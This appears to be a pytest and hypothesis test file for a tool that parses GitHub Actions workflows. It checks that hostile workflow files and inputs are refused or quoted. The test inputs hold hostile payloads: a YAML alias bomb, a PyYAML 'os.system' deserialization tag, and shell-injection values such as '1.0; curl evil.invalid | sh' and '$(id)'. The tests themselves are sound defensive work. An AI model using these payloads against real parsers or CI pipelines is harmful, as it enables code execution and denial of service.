"""Workflow files made to hurt: a clear note, in short time, and never an exception."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.recipe.document import Unreadable, load
from bot.recipe.workflow import read_all
from tests.unit.recipe.made import Ran, recipe

RED = Ran(run="pytest -q", code=1)
PATH = ".github/workflows/ci.yml"
BOMB = "a0: &a0 [x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 8)}]\n" for n in range(1, 12)
)
AXES = "".join(f"x{n}: [{', '.join(map(str, range(60)))}]\n        " for n in range(8))
JOB = "jobs:\n  test:\n    runs-on: ubuntu-latest\n    steps: [{run: pytest -q}]\n"
DEEP = "[" * 3000
LEG = JOB + f"    strategy:\n      matrix:\n        {AXES}\n"
WORDS = ["run", "uses", "with", "env", "steps", "matrix", "include", "[k]"]


@pytest.mark.parametrize(
    ("workflow", "note"),
    [
        (BOMB + JOB, "too many entries"),
        (f"x: {DEEP}", "nested too deeply"),
        ("x: &x [*x]\n" + JOB, "nested too deeply"),
        (JOB + "#" * 300_000, "larger than 256 KB"),
        ("jobs: [", "not valid YAML"),
        ("- a", "not a mapping"),
        ("on: push", "has no jobs"),
        ("x: \x00", "not valid YAML"),
        (LEG, "legs of the matrix are looked at"),
        ("a: !!python/object/apply:os.system [id]\njobs: 3", "has no jobs"),
    ],
)
def test_a_hostile_file_is_named(workflow: str, note: str) -> None:
    began = time.monotonic()
    made = recipe(RED, workflow=workflow)
    assert time.monotonic() - began < 20
    assert [check.command for check in made.checks] == ["pytest -q"]
    assert any(note in text.text for text in made.notes), made.notes


def test_a_composite_action_that_calls_itself_ends() -> None:
    action = "runs:\n  using: composite\n  steps:\n" + "    - uses: ./a\n" * 9
    workflow = JOB.replace("{run: pytest -q}", "{uses: ./a}, {run: pytest -q}")
    made = recipe(RED, workflow=workflow, files={"a/action.yml": action})
    assert "pytest -q" in [check.command for check in made.checks]
    assert any("only the first" in note.text for note in made.notes)


def test_workflows_that_call_each_other_end() -> None:
    call = (
        "on: workflow_call\njobs:\n  a: {uses: ./.github/workflows/ci.yml}\n  b: {uses: ./.github/workflows/ci.yml}\n"
    )
    assert [check.command for check in recipe(RED, workflow=call).checks] == ["pytest -q"]


def test_commands_out_of_inputs_are_quoted() -> None:
    """Attack: a version or a path that is shell text."""
    evil = "1.0; curl evil.invalid | sh"
    steps = [
        Ran(uses="astral-sh/setup-uv@v6", given={"version": evil}),
        Ran(uses="pnpm/action-setup@v4", given={"version": evil}),
        Ran(uses="awalsh128/cache-apt-pkgs-action@v1", given={"packages": "jq $(id) a;b"}),
        Ran(uses="psf/black@stable", given={"options": "--check '", "version": "$(id)"}),
        Ran(uses="dtolnay/rust-toolchain@master", given={"toolchain": "$(id)", "components": "clippy; id"}),
        RED,
    ]
    made = recipe(*steps)
    told = "\n".join(step.command for step in made.setup)
    assert "curl" not in told and "$(id)" not in told and "a;b" not in told and "; id" not in told
    assert made.image.replace(":", "").replace("-", "").replace(".", "").isalnum()


@pytest.mark.parametrize(
    "spec", ["3.12; id", "$(id)", "9" * 5000, "3." + "9" * 400, "<0.0", "<1", "\n\n", "pypy", "v", "=="]
)
@pytest.mark.parametrize("action", ["python", "node", "go", "java"])
def test_any_version_gives_an_image(spec: str, action: str) -> None:
    made = recipe(Ran(uses=f"actions/setup-{action}@v5", given={f"{action}-version": spec}), RED)
    assert len(made.image) < 60 and " " not in made.image and "$" not in made.image


def flow(items: list[tuple[str, str]]) -> str:
    return "{" + ", ".join(f"{key}: {value}" for key, value in items) + "}"


VALUES = st.recursive(
    st.sampled_from(["1", "x", "${{ matrix.x }}", "${{ secrets.y }}", "null", "true", "2.5", "'[]'", "../..", "/etc"]),
    lambda inner: st.one_of(
        st.lists(inner, max_size=3).map(lambda items: f"[{', '.join(items)}]"),
        st.lists(st.tuples(st.sampled_from(WORDS), inner), max_size=3).map(flow),
    ),
    max_leaves=8,
)
KEYS = ["runs-on", "env", "defaults", "strategy", "container", "services", "if", "uses", "with", "name", "needs"]


@settings(max_examples=80, deadline=None)
@given(st.dictionaries(st.sampled_from(KEYS), VALUES, max_size=6), VALUES)
def test_any_shape_of_a_job_ends_in_a_recipe(job: dict[str, str], step: str) -> None:
    body = "".join(f"    {key}: {value}\n" for key, value in job.items())
    workflow = f"on: push\njobs:\n  test:\n    x: 1\n{body}    steps: [{step}, {{run: pytest -q, env: {step}}}]\n"
    recipe(RED, workflow=workflow)


@given(st.binary(max_size=200) | st.text(alphabet=":-[]{}&*!|>'\"# \nabc?,%@`", max_size=80).map(str.encode))
def test_any_bytes_are_read_or_refused(content: bytes) -> None:
    try:
        load(content)
    except Unreadable as error:
        assert str(error)
    read_all({PATH: content}.get, frozenset((PATH,)), [])
